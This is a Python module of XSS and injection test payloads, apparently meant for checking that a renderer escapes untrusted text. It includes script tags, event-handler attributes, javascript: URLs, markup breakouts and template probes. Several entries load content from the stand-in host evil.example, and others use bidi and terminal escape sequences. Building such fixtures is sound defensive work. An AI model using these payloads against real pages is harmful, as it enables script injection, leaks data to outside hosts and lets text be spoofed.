"""Text that attacks a page: markup, addresses, templates, signs that hide or turn what stands around them."""

from __future__ import annotations

_RUN = "window.ran = 1"
_AWAY = "http://evil.example"

MARKUP = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt >{_RUN}</sCrIpT\t>",
    f"<script src='{_AWAY}/x.js'></script>",
    f"<script type=module>import '{_AWAY}/x.js'</script>",
    f"<img src=x onerror='{_RUN}'>",
    f"<img src='{_AWAY}/p.png'>",
    f"<img srcset='{_AWAY}/p.png 2x' src=x>",
    f"<svg onload='{_RUN}'></svg>",
    f"<svg><animate onbegin='{_RUN}' attributeName=x dur=1s>",
    f"<svg><use href='{_AWAY}/x.svg#a'/></svg>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<iframe src='javascript:{_RUN}'></iframe>",
    f"<iframe srcdoc='&lt;script&gt;parent.{_RUN}&lt;/script&gt;'></iframe>",
    f"<object data='{_AWAY}/x.swf'></object>",
    f"<embed src='{_AWAY}/x.pdf'>",
    f"<video autoplay><source onerror='{_RUN}' src=x></video>",
    f"<audio src='{_AWAY}/x.ogg' autoplay></audio>",
    f"<body onload='{_RUN}'>",
    f"<details open ontoggle='{_RUN}'>x</details>",
    f"<input autofocus onfocus='{_RUN}'>",
    f"<marquee onstart='{_RUN}'>x</marquee>",
    f"<a href='javascript:{_RUN}'>a</a>",
    f"<a href='{_AWAY}' ping='{_AWAY}'>a</a>",
    f"<link rel=stylesheet href='{_AWAY}/x.css'>",
    f"<link rel=dns-prefetch href='{_AWAY}'>",
    f"<style>@import url({_AWAY}/x.css)</style>",
    f"<div style='background:url({_AWAY}/x.png)'>x</div>",
    f"<meta http-equiv=refresh content='0;url={_AWAY}'>",
    f"<base href='{_AWAY}/'>",
    f"<form action='{_AWAY}'><button>x</button></form>",
    f"<math><mi xlink:href='javascript:{_RUN}'>x</mi></math>",
    f"<math><mtext><table><mglyph><style><img src=x onerror='{_RUN}'>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN.replace(' ', '')}>'>",
    f"<template><script>{_RUN}</script></template>",
    f"<portal src='{_AWAY}'></portal>",
    f"<x-a is=script onclick='{_RUN}'>x</x-a>",
)
"""What would run or load if it were taken for HTML."""

BREAKOUTS = (
    f"</bdi></article></main><form action='{_AWAY}'><input name=x>",
    f"</template></pre><base href='{_AWAY}/'>",
    f"</title></textarea></style></script><script>{_RUN}</script>",
    f'" autofocus onfocus="{_RUN}" x="',
    f"' onmouseover='{_RUN}' x='",
    f"x` onclick=`{_RUN}` `",
    f"<!-- --!><script>{_RUN}</script> -->",
    f"<![CDATA[<script>{_RUN}</script>]]>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{_RUN}&amp;lt;/script&amp;gt;",
    f"&#60;img src=x onerror={_RUN.replace(' ', '')}&#62;",
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
)
"""What would leave the place where it stands, or become markup once decoded again."""

LANGUAGES = (
    f"[link](javascript:{_RUN.replace(' ', '')}) ![image]({_AWAY}/p.png)",
    f"<{_AWAY}> [a]: {_AWAY} ![b][a]",
    "{{ 7 * 7 }} ${7 * 7} {% include 'page.html' %} <%= 7 * 7 %> #{7 * 7}",
    f"data: piece\nevent: piece\n\nevent: whole\ndata: {{}}\n\n<script>{_RUN}</script>",
    f"javascript:{_RUN}//",
)
"""What would do something if it were markdown, a template, a server's event or an address."""

SIGNS = (
    "\u202eevil\u202c \u2066x\u2069 \u200f\u200e\u061c",
    "\ufeff\u200b\u200c\u200d\u2060 hidden\u00ad",
    "\x00\x07\x1b[31m red \x1b]8;;http://evil.example\x07x\x9b",
    "שלום עולם (123) مرحبا",
    "Z\u0351\u036b\u0343\u036a\u0302" * 40,
    "W" * 3_000,
)
"""What would hide, turn round or push apart the text beside it."""

PAYLOADS = (*MARKUP, *BREAKOUTS, *LANGUAGES, *SIGNS)
